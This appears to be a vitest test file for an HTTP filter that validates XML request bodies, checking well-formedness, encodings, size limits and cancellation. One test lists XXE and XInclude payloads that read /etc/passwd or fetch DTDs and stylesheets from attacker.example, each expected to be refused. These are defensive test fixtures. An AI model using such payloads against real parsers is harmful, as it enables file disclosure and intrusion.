import { beforeAll, describe, expect, test } from "vitest";
import type { Denial } from "../../src/decision/verdict.ts";
import { validateFilter } from "../../src/filters/validate/compile.ts";
import { compileFilter, createExchange, MemoryBody, onlyCheck } from "../fixtures/route-context.ts";

beforeAll(async () => {
  await validateFilter.prepare?.();
  await validateFilter.parts?.["xml"]?.();
});

async function post(body: string | Buffer, xml: object = {}, type = "application/xml"): Promise<Denial | null> {
  const check = onlyCheck(compileFilter(validateFilter, { xml }));
  const headers = [["content-type", type]] as const;
  return check.evaluate(createExchange({ method: "POST", headers, body: new MemoryBody([body]) }));
}

const XI = "http://www.w3.org/2001/XInclude";

describe("honest documents pass", () => {
  test.each([
    "<a/>",
    '<?xml version="1.0" encoding="UTF-8" standalone=\'yes\'?>\r\n<!-- c --><a b="1&amp;2" c=\'"\'>x &lt; &#65;&#x1F600; ]] ></a >\n<!--end-->',
    '\ufeff<?xml version="1.0"?><été/>',
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><m xmlns="urn:m" xml:lang="de">1</m></s:Body></s:Envelope>',
    "<a><![CDATA[ <!DOCTYPE x> & ]] ]]></a>",
    '<a xmlns:p="urn:1" xmlns:q="urn:2" p:k="1" q:k="2" k="3"/>',
    '<a xmlns="urn:1"><b xmlns=""/></a>',
    "<a.b-c_d><x:e xmlns:x='urn:x'/></a.b-c_d>",
  ])("%s", async (text) => {
    expect(await post(text)).toBeNull();
  });
});

describe("what has no one reading is no XML", () => {
  test.each([
    "",
    " ",
    "text",
    "<a>",
    "<a></b>",
    "<a/><b/>",
    "<a/>x",
    "<a b=1/>",
    "<a b='<'/>",
    "<a b='1'c='2'/>",
    "<a b='1' b='2'/>",
    '<a xmlns:p="u" xmlns:q="u" p:k="1" q:k="2"/>',
    '<a xmlns:p="u" xmlns:q="&#117;" p:k="1" q:k="2"/>',
    '<a xmlns:p="u v" xmlns:q="u\r\nv" p:k="1" q:k="2"/>',
    "<p:a/>",
    "<a p:b='1'/>",
    "<a:b:c xmlns:a='u'/>",
    "<a xmlns:p=''/>",
    "<a xmlns:xml='urn:x'/>",
    "<a xmlns:xmlns='urn:x'/>",
    "<a>&</a>",
    "<a>&#0;</a>",
    "<a>&#xD800;</a>",
    "<a>]]></a>",
    "<a><!-- -- --></a>",
    "<a><!-- --->",
    "<a><![CDATA[</a>",
    "<![CDATA[x]]><a/>",
    " <?xml version='1.0'?><a/>",
    "<?xml version='1.1'?><a/>",
    "<?xml version='1.0' encoding='UTF-16'?><a/>",
    "<?xml version='1.0' encoding='iso-8859-1'?><a/>",
    "<?xml encoding='UTF-8'?><a/>",
    "<a>\u0001</a>",
    "<a>\uffff</a>",
    "<1/>",
    "< a/>",
    "<a / >",
    "</a>",
  ])("%s", async (text) => {
    expect(await post(text)).toMatchObject({ reason: "body_not_xml" });
  });

  test("other encodings and other types", async () => {
    for (const encoding of ["utf16le", "latin1"] as const)
      expect(await post(Buffer.from("\ufeff<é/>", encoding))).toMatchObject({ reason: "body_not_xml" });
    expect(await post(Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xbc, 0x3c, 0x2f, 0x61, 0x3e]))).toMatchObject({
      reason: "body_not_xml",
    });
    expect(await post("<a/>", {}, "text/xml; charset=iso-8859-1")).toMatchObject({
      reason: "content_type_unsupported",
    });
    expect(await post("<a/>", {}, "application/soap+xml; charset=utf-8; action=x")).toBeNull();
    expect(await post("<a/>", {}, "text/html")).toMatchObject({ reason: "content_type_unsupported" });
  });
});

test.each([
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
  "<!doctype a><a/>",
  "<a>&nbsp;</a>",
  "<a b='&x;'/>",
  "<?xml-stylesheet href='http://attacker.example/x.xsl'?><a/>",
  "<a><?php echo 1 ?></a>",
  `<a xmlns:x="${XI}"><x:include href="file:///etc/passwd"/></a>`,
  `<include xmlns="${XI}" href="file:///etc/passwd"/>`,
  `<a xmlns:x="${XI.replace("w3", "&#119;3")}"/>`,
])("%s is refused for what it can do", async (text) => {
  expect(await post(text)).toMatchObject({ reason: "xml_construct_denied" });
});

test("processing instructions pass where the policy lets them, but for a second declaration", async () => {
  const settings = { processingInstructions: "allow" };
  expect(await post("<?style x?><a><?p?></a>", settings)).toBeNull();
  expect(await post("<a><?xml version='1.0'?></a>", settings)).toMatchObject({ reason: "body_not_xml" });
  expect(await post("<a><?XML x?></a>", settings)).toMatchObject({ reason: "body_not_xml" });
});

test.each([
  [{ depth: 2 }, "<a><b><c/></b></a>", "<a><b/></a>"],
  [{ elements: 2 }, "<a><b/><b/></a>", "<a><b/></a>"],
  [{ attributes: 1 }, "<a b='' c=''/>", "<a b=''/>"],
  [{ attributeBytes: "4B" }, "<a b='éééé'/>", "<a b='ab'/>"],
  [{ namespaces: 1 }, "<a xmlns:p='u' xmlns:q='v'/>", "<a xmlns:p='u'/>"],
  [{ rebindings: 0 }, "<a xmlns='u'><b xmlns='v'/></a>", "<a xmlns='u'><b xmlns='u'/></a>"],
  [{ textBytes: "5B" }, "<a>éééé</a>", "<a>12345</a>"],
  [{ textBytes: "9B" }, "<a><![CDATA[x]]></a>", "<a>x</a>"],
])("%j: %s is too much, and %s is not", async (settings, wrong, right) => {
  expect(await post(wrong, settings)).toMatchObject({
    reason: "xml_limit_exceeded",
    seen: expect.stringContaining(`'${Object.keys(settings)[0]}'`),
  });
  expect(await post(right, settings)).toBeNull();
});

test("a long document is judged in turns, and its end counts as its beginning does", async () => {
  const items = "<item id='1'>text &amp; more</item>".repeat(9_000);
  expect(await post(`<a>${items}</a>`)).toBeNull();
  expect(await post(`<a>${items}<b></a>`)).toMatchObject({ reason: "body_not_xml" });
});

test("a short document whose texts take long waits in its client's line, and is given up with it", async () => {
  const schema =
    '{"type":"object","xml":{"name":"a"},"properties":{"i":{"type":"array","items":{"$ref":"#/$defs/i"}}},';
  const files = { "a.json": `${schema}"$defs":{"i":{"type":"string","pattern":"^[ab]*a[ab]{30}$"}}}` };
  const check = onlyCheck(compileFilter(validateFilter, { xml: { schema: "a.json" } }, { files }));
  const evaluate = (count: number) => {
    // The digits of roots, of which no two stretches are alike.
    const letters = (at: number): string => {
      const digits = String(Math.sqrt(at + 2))
        .slice(-12)
        .replace(/\D/g, "");
      return digits.replace(/[0-4]/g, "a").replace(/\d/g, "b");
    };
    const item = (at: number): string =>
      `<i>${Array.from({ length: 80 }, (_, n) => letters(80 * at + n)).join("")}a${"b".repeat(30)}</i>`;
    const body = new MemoryBody([`<a>${Array.from({ length: count }, (_, at) => item(at)).join("")}</a>`]);
    const exchange = createExchange({ method: "POST", headers: [["content-type", "application/xml"]], body });
    return { exchange, verdict: Promise.resolve(check.evaluate(exchange)) };
  };
  await expect(evaluate(1).verdict).resolves.toBeNull();
  const first = evaluate(20);
  const gone = evaluate(20);
  gone.exchange.end();
  await expect(gone.verdict).resolves.toMatchObject({ reason: "client_closed" });
  await expect(first.verdict).resolves.toBeNull();
});

test("values of attributes have a bound of their own, for they are read in one go", () => {
  const { problems } = compileFilter(validateFilter, { xml: { attributeBytes: "1MiB" } });
  expect(problems[0]).toMatchObject({ path: "validate.xml.attributeBytes" });
});
